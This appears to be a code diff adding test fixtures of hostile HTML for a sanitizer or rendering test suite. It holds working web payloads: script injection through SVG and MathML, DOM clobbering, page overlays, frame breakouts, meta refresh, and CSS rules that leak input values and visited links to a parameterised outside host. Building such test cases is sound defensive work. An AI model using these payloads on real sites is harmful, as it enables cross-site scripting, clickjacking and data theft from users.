@@ -1,3 +1,5 @@
+import { hostileProof } from '../../support/make/hostile.ts';
+
 /** Calls this where a browser runs it. The page that judges a text counts the calls. */
 const code = 'hit()';
 
@@ -254,3 +256,21 @@ export const hostileMarkup: Readonly<Record<string, readonly string[]>> = {
 };
 
 export const allHostileMarkup: readonly string[] = Object.values(hostileMarkup).flat();
+
+/** What is after the page around it, what leads away, and what tells by a request what a style has found. */
+export const breakouts = (elsewhere: string): readonly string[] => [
+  hostileProof(elsewhere),
+  '<style>* { position: fixed !important; inset: 0; z-index: 2147483647; background: red } html { height: 9999vh }</style><p>cover</p>',
+  '<div style="position:fixed;inset:0;z-index:9;background:red">cover</div><dialog open style="position:fixed;inset:0">dialog</dialog>',
+  '<button popovertarget="p" popovertargetaction="show">open</button><div id="p" popover style="inset:0">popover</div>',
+  `<base target="_top"><a target="_parent" href="${elsewhere}/a">a</a><form target="_top" action="${elsewhere}/f"><button>b</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=${elsewhere}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
+  `<style>a:visited { background: url(${elsewhere}/visited) } input[value^="a"] { background: u\\72l(${elsewhere}/a) }</style><input value="abc">`,
+  `<style>@import "${elsewhere}/a.css"; @\\69mport url(${elsewhere}/b.css); @font-face { font-family: x; src: url(${elsewhere}/f) } p { font-family: x }</style><p>x</p>`,
+  `<style>p { background-image: image-set("${elsewhere}/s" 1x); -webkit-mask: url(${elsewhere}/m); cursor: url(${elsewhere}/c), auto }</style><p>x</p>`,
+  `<svg><foreignObject><iframe src="${elsewhere}"></iframe></foreignObject><set attributeName="href" to="javascript:alert(1)"/></svg>`,
+  `<math href="${elsewhere}"><mtext><img src=x onerror=alert('hit')></mtext><maction actiontype="statusline" xlink:href="${elsewhere}">x</maction></math>`,
+  '<iframe name="top"></iframe><a id="parent" name="top">x</a><form id="location"><input name="href"></form>',
+  '<template shadowrootmode="open"><style>:host { position: fixed; inset: 0 }</style><script>alert(1)</script></template>',
+  `<link rel="stylesheet" href="data:text/css,*{display:none}"><object data="data:text/html,<script>parent.hit=1</script>"></object>`,
+];
